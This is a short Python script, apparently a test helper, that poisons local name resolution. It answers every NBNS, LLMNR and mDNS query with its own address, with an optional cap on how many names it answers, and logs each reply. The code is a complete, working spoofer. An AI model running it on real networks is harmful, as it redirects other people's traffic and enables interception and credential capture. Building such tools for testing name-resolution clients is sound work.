"""A poisoner for tests: it answers every name over NBNS, LLMNR and mDNS, and says so.

    python poisoner.py OWN-ADDRESS PROTOCOL[,PROTOCOL...] [ONLY-THIS-MANY-NAMES]

Written from the packets' formats with nothing of nethood in it, so that both can't be wrong alike.
"""

from __future__ import annotations

import select
import socket
import struct
import sys

GROUPS = {"llmnr": ("224.0.0.252", 5355), "mdns": ("224.0.0.251", 5353)}


def listen(protocol: str, own: str) -> socket.socket:
    """Return a socket that hears the questions of *protocol*."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if protocol == "nbns":
        sock.bind(("", 137))
        return sock
    group, port = GROUPS[protocol]
    sock.bind(("", port))
    membership = socket.inet_aton(group) + socket.inet_aton(own)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    return sock


def nbns_answer(question: bytes, own: str) -> bytes:
    """Say that the name asked for is here."""
    record = question[12:46] + struct.pack(">HHIHH", 0x20, 1, 165, 6, 0) + socket.inet_aton(own)
    return question[:2] + bytes.fromhex("8500 0000 0001 0000 0000") + record


def dns_answer(question: bytes, own: str) -> bytes:
    """Say that the name asked for is here, with the question repeated."""
    end = question.index(b"\0", 12) + 5
    kind = question[end - 4 : end - 2]
    address = socket.inet_aton(own) if kind == b"\0\x01" else bytes(15) + b"\1"
    head = question[:2] + bytes.fromhex("8400 0001 0001 0000 0000")
    record = b"\xc0\x0c" + kind + struct.pack(">HIH", 1, 30, len(address)) + address
    return head + question[12:end] + record


def name_of(question: bytes) -> bytes:
    """Return what tells one name from another."""
    return question[13:45] if question[12] == 32 else question[13 : 13 + question[12]].lower()


def main() -> None:
    """Answer for ever."""
    own, protocols = sys.argv[1], sys.argv[2].split(",")
    limit = int(sys.argv[3]) if len(sys.argv) > 3 else 1000
    makers = {"nbns": nbns_answer, "llmnr": dns_answer, "mdns": dns_answer}
    sockets = {listen(protocol, own): protocol for protocol in protocols}
    answered: dict[str, set[bytes]] = {protocol: set() for protocol in protocols}
    print("ready", flush=True)
    while True:
        for sock in select.select(list(sockets), [], [])[0]:
            question, source = sock.recvfrom(2048)
            if question[2] & 0x80:
                continue
            protocol = sockets[sock]
            known = answered[protocol]
            if name_of(question) not in known and len(known) >= limit:
                continue
            known.add(name_of(question))
            sock.sendto(makers[protocol](question, own), source)
            print(protocol, source[0], source[1], question.hex(), flush=True)


if __name__ == "__main__":
    main()
